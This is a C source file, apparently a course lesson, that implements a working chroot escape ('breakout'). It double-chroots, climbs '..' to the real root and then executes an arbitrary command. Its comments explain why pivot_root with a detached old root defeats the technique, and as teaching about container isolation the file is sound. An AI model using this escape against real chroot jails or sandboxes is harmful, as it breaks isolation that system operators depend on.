// breakout — escape a chroot, then run a command in the real root. (Lesson02.)
//
// chroot(2) changes only where path lookups start from "/". It does not move the working
// directory. So a root process that chroots into a subdirectory while staying where it is
// has its working directory *outside* its new root. From there, ".." is never the root, and
// walking up reaches the true root of the mount namespace; chroot(".") there and we are out.
//
// Under pivot_root with the old root detached, the top of that walk is the container's
// own root: there is nothing above it left to reach. The same program then stays inside.
//
// Usage: breakout CMD [ARGS...]
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 2) {
        fprintf(stderr, "usage: breakout CMD [ARGS...]\n");
        return 2;
    }
    // A second chroot into a directory that exists in any rootfs; the cwd stays at "/".
    if (chroot("/tmp") != 0) {
        fprintf(stderr, "breakout: chroot \"/tmp\": %s\n", strerror(errno));
        return 1;
    }
    // Now cwd is outside the root: climb. ".." at the true root is the root itself.
    for (int i = 0; i < 256; i++) {
        if (chdir("..") != 0) break;
    }
    if (chroot(".") != 0) {
        fprintf(stderr, "breakout: chroot \".\": %s\n", strerror(errno));
        return 1;
    }
    execvp(argv[1], argv + 1);
    fprintf(stderr, "breakout: exec \"%s\": %s\n", argv[1], strerror(errno));
    return errno == ENOENT ? 127 : 126;
}
